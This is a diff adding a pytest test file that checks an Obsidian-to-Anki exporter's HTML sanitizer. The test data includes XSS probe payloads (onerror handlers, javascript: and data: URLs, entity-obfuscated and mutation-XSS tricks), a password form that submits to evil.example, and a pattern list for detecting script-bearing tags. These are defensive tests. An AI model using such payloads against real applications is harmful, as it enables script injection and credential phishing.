@@ -1,0 +1,215 @@
+"""Raw HTML in notes goes through an allow-list: what Anki's web view would run or load is
+removed with a warning naming the card, everything that formats stays, our own generated HTML
+is untouched byte for byte, and `--trusted-html` keeps everything."""
+
+from __future__ import annotations
+
+import html
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from conftest import AnkiCollection
+
+from vault2anki.sanitize import sanitize
+
+from .conftest import deck_fields, export
+
+PNG = bytes.fromhex(
+    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+    "1f15c4890000000d49444154789c6360f8cfc0f01f0005fe02fea7d5a0a50000000049454e44ae426082"
+)
+YOUTUBE = (
+    '<iframe width="560" height="315" src="https://www.youtube.com/embed/w-vUj0gHGgg?start=538" '
+    'frameborder="0" allowfullscreen></iframe>'
+)
+
+# The probes of issue 12, each with what must be gone from the field and what must stay.
+HOSTILE = {
+    "img-onerror": ("<img src=x onerror=alert(1)> after", ["onerror", "alert"], ["after"]),
+    "js-link": ('<a href="javascript:alert(1)">click</a>', ["javascript"], ["click"]),
+    "js-iframe": ("<iframe src=javascript:alert(1)></iframe>", ["javascript"], []),
+    "svg-onload": ("<svg onload=alert(1)><circle r=1 /></svg>ok", ["svg", "onload"], ["ok"]),
+    "form": (
+        '<form action="https://evil.example"><input type=password name=p><button>Go</button>'
+        "</form>",
+        ["form", "password", "evil.example", "<button"],
+        ["Go"],
+    ),
+    "file-link": ('<a href="file:///etc/passwd">passwd</a>', ["file:"], ["passwd"]),
+    "style": ("<style>.card { display: none }</style>visible", ["style", "display"], ["visible"]),
+    "link-meta": (
+        # Inline, the renderer escapes unknown tags already; inside an HTML block they pass.
+        '<div><link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" '
+        'content="0;url=https://evil.example"></div>\n\ntext',
+        ["<link", "<meta", "evil.example"],
+        ["text"],
+    ),
+    "script": ("<script>alert(1)</script>plain", ["script", "alert"], ["plain"]),
+    "data-link": ('<a href="data:text/html,<b>x</b>">d</a>', ["data:"], [">d</a>"]),
+    "entity-js": ('<a href="javascript&#58;alert(1)">e</a>', ["javascript", "alert"], [">e</a>"]),
+    "evil-iframe": ('<iframe src="https://evil.example/x"></iframe>', ["evil.example"], []),
+    "inline-style": (
+        '<span style="position:fixed;top:0;left:0;width:100%;color:red">x</span>',
+        ["position", "fixed"],
+        ["color:red"],
+    ),
+}
+
+
+def _note(body: str) -> str:
+    return f"# Hostile?\n## Answer\n{body}\n"
+
+
+@pytest.mark.parametrize("probe", sorted(HOSTILE))
+def test_hostile_html_is_removed_with_a_warning(vault: Path, out: Path, probe: str) -> None:
+    body, gone, kept = HOSTILE[probe]
+    (vault / "hostile.md").write_text(_note(body), encoding="utf-8")
+    run = export(vault, out)
+    assert run.code == 0, run.result.output
+    [warning] = run.lines
+    assert warning.startswith("hostile.md:2: warning: raw HTML that Anki would run or load was ")
+    assert warning.endswith(
+        "the card exports without it — pass --trusted-html if you trust every note of this vault"
+    )
+    [answer] = [f[1] for f in deck_fields(out) if "Hostile" in f[0]]
+    for text in gone:
+        assert text not in answer, (probe, answer)
+    for text in kept:
+        assert text in answer, (probe, answer)
+
+
+@pytest.mark.parametrize("probe", sorted(HOSTILE))
+def test_trusted_html_keeps_it_and_strict_refuses_it(vault: Path, out: Path, probe: str) -> None:
+    body, gone, _ = HOSTILE[probe]
+    (vault / "hostile.md").write_text(_note(body), encoding="utf-8")
+    trusted = export(vault, out, "--trusted-html")
+    assert trusted.code == 0 and trusted.lines == []
+    [answer] = [f[1] for f in deck_fields(out) if "Hostile" in f[0]]
+    for text in gone:  # all there (what the renderer itself escapes, as text)
+        assert text in html.unescape(answer), (probe, answer)
+    strict = export(vault, out.with_name("strict.apkg"), "--strict")
+    assert strict.code == 1
+    assert strict.lines[-1] == "Error: 1 problems and --strict: nothing written"
+    assert not out.with_name("strict.apkg").exists()
+
+
+OURS = {
+    "code.md": "# Code?\n## Answer\n```python\ndef f(x):\n    return \"q\" + 'x' < 2\n```\n",
+    "callout.md": (
+        "# Callout?\n## Answer\n> [!note] Title\n> body **bold**\n\n> [!tip]- Folded\n> inside\n"
+    ),
+    "math.md": "# Math?\n## Answer\nInline $a^2 < b$ and\n\n$$\n\\frac{1}{2}\n$$\n",
+    "links.md": "# Links?\n## Answer\nSee [[code]] and [[callout#Answer|there]], <https://ex.org/a?b=1&c=2>\n",
+    "table.md": "# Table?\n## Answer\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n",
+    "tasks.md": "# Tasks?\n## Answer\n- [ ] open\n- [x] done\n",
+    "media.md": "# Media?\n## Answer\n![[pic.png|100]] ![alt](pic.png)\n",
+    "inline.md": (
+        "# Inline?\n## Answer\n<kbd>Ctrl</kbd>+<kbd>C</kbd>, x<sup>2</sup>, H<sub>2</sub>O, "
+        "==mark==, ~~del~~, <u>u</u>\n\n<details><summary>More</summary>hidden</details>\n\n"
+        f'{YOUTUBE}\n\n<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">\n'
+    ),
+    "ol.md": "# List?\n## Answer\n3. three\n4. four\n\n<br/>line<br />\n",
+}
+
+
+def test_our_own_html_is_byte_for_byte_what_trusted_html_gives(tmp_path: Path) -> None:
+    vault = tmp_path / "ours"
+    vault.mkdir()
+    for name, text in OURS.items():
+        (vault / name).write_text(text, encoding="utf-8")
+    (vault / "pic.png").write_bytes(PNG)
+    for links in ("text", "obsidian"):
+        safe = export(vault, tmp_path / f"safe-{links}.apkg", "--links", links)
+        trusted = export(
+            vault, tmp_path / f"trusted-{links}.apkg", "--links", links, "--trusted-html"
+        )
+        assert safe.code == trusted.code == 0, safe.result.output
+        assert not [line for line in safe.lines if "raw HTML" in line]
+        fields = deck_fields(tmp_path / f"safe-{links}.apkg")
+        assert fields == deck_fields(tmp_path / f"trusted-{links}.apkg")
+    joined = "\n".join(f[1] for f in fields)
+    for ours in (
+        'class="highlight"',
+        'class="callout',
+        "<details",
+        "obsidian://open?vault=ours",
+        'style="text-align: center;"',
+        'type="checkbox"',
+        "<kbd>",
+        "<sup>",
+        "<mark>",
+        YOUTUBE,
+        "data:image/png",
+        '<ol start="3">',
+    ):
+        assert ours in joined, ours
+
+
+def test_hostile_vault_imports_every_note_into_real_anki(
+    vault: Path, out: Path, anki: AnkiCollection
+) -> None:
+    for probe, (body, _, _) in HOSTILE.items():
+        (vault / f"{probe}.md").write_text(_note(body), encoding="utf-8")
+    run = export(vault, out)
+    assert run.code == 0
+    counts = anki.import_package(out)
+    assert counts.new == len(HOSTILE) + 1
+    answers = " ".join(str(n["Answer"]) for n in anki.notes())
+    for needle in ("onerror", "javascript", "<script", "<form", "<style", "file:", "onload"):
+        assert needle not in answers
+    again = export(vault, out)
+    assert again.code == 0 and anki.import_package(out).new == 0
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<p>plain</p>",
+        '<div class="highlight"><pre><span></span><code><span class="n">x</span></code></pre>'
+        "</div>",
+        "<p>a &quot;b&quot; &#39;c&#39; &amp; &lt;d&gt;</p>",
+        "<p><div>mis-nested</div></p>",
+    ],
+)
+def test_what_is_kept_is_kept_as_written(html: str) -> None:
+    assert sanitize(html) == html
+
+
+class _Active(HTMLParser):
+    """Event handlers and script URLs as a browser-like parser sees them in the output."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in ("script", "style", "svg", "math", "noscript", "form"):
+            self.found.append(tag)
+        for name, value in attrs:
+            if (
+                name.startswith("on")
+                or name == "srcdoc"
+                or "script:" in (value or "").replace("\t", "").lower()
+            ):
+                self.found.append(f"{tag} {name}")
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "<!--><img src=x onerror=alert(1)>-->",
+        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+        '<a href="jav&#x09;ascript:alert(1)">t</a>',
+        "<svg><style><img src=x onerror=alert(1)></style></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        '<img src="x" onerror="alert(1)"//',
+        "<p>ok</p><IMG SRC=x ONERROR=alert(1)>",
+        '<a href=" javascript:alert(1)">t</a>',
+        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    ],
+)
+def test_parser_tricks_leave_nothing_active(hostile: str) -> None:
+    parser = _Active()
+    parser.feed(sanitize(hostile))
+    assert parser.found == []
